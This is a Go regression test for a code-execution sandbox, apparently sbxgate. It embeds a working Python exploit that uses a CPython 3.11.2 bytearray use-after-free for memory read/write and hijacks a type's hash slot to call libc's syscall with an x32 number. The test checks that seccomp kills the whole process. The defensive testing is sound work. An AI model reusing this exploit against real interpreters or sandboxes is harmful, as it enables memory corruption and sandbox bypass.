package runner

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/sbxgate/sbxgate/config"
)

// verdictOtherABI makes a system call with an x32 number (bit 30 set) from the program's main
// thread while a second thread is alive: CPython 3.11.2's bytearray use-after-free (as in
// testdata/adaptive/memory_corruption/type_slot_fork.py) gives read and write of memory, and a
// type's tp_hash pointed at libc's syscall(2) calls it with the object's address as its number.
// libseccomp's default for another ABI's call kills only the calling thread: the process went on,
// the other thread waited forever for the interpreter lock the killed one held, and the refusal
// was recorded as a timeout with no violation (red team rt10).
const verdictOtherABI = `import os, struct, threading, time


class Shrink:
    def __index__(self):
        global memory
        victim.clear()
        memory = bytearray()
        victim.extend([0] * 56)
        return 1


memory = bytearray()
for attempt in range(20):
    victim = bytearray(56)
    victim[23] = Shrink()
    if len(memory):
        break
print("read/write of memory:", len(memory) > 0, flush=True)


def libc_function(name):
    for line in open("/proc/self/maps"):
        f = line.split()
        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
            base, path = int(f[0].split("-")[0], 16), f[5]
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return base + value


class Token:
    def __hash__(self):
        return 1


tokens = [Token() for _ in range(16)]
good = [t for t in tokens if 0x40000000 <= id(t) & 0xFFFFFFFF < 0xFFFFFFFF]
if not good:
    print("no object in the x32 range here")  # the heap's low 32 bits are below 2**30: 1 run in 4
    raise SystemExit(0)
token = good[0]
threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
memory[id(Token) + 15 * 8:id(Token) + 16 * 8] = struct.pack("<Q", libc_function(b"syscall"))
hash(token)
print("not reached")
`

// TestVerdictOtherABI: a system call of another ABI ends the whole process (SIGSYS), recorded as
// the kernel filter's violation, under both layers and under the hook alone (whose guard filter
// holds the same rule); in the image without sbxgate's filters the same call fails with ENOSYS.
func TestVerdictOtherABI(t *testing.T) {
	d := newTestDocker(t)
	for _, c := range []struct {
		name string
		off  config.Layers
	}{{"both", 0}, {"audit_hook", config.LayerSeccomp}} {
		t.Run(c.name, func(t *testing.T) {
			l := testLimits
			l.TimeoutMS = 5_000
			l.Enforce = c.off
			var res Result
			// The object's address must have bit 30 or 31 set in its low half: up to three runs.
			for try := 0; try < 3; try++ {
				ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
				var err error
				res, err = d.Run(ctx, Request{ID: t.Name(), Code: []byte(verdictOtherABI), Limits: l})
				cancel()
				if err != nil {
					t.Fatal(err)
				}
				if !strings.Contains(res.Stdout, "no object in the x32 range") {
					break
				}
			}
			if res.Stdout != "read/write of memory: True\n" {
				t.Skipf("the use-after-free did not give memory, or no object was in range: %q %s", res.Stdout, clip(res.Stderr))
			}
			if res.ExitCode != 159 || res.TimedOut || len(res.Violations) == 0 || res.Violations[0].Event != "seccomp" {
				t.Errorf("exit %d, timed out %v, violations %v: want exit 159 and the kernel filter's violation",
					res.ExitCode, res.TimedOut, res.Violations)
			}
		})
	}
}
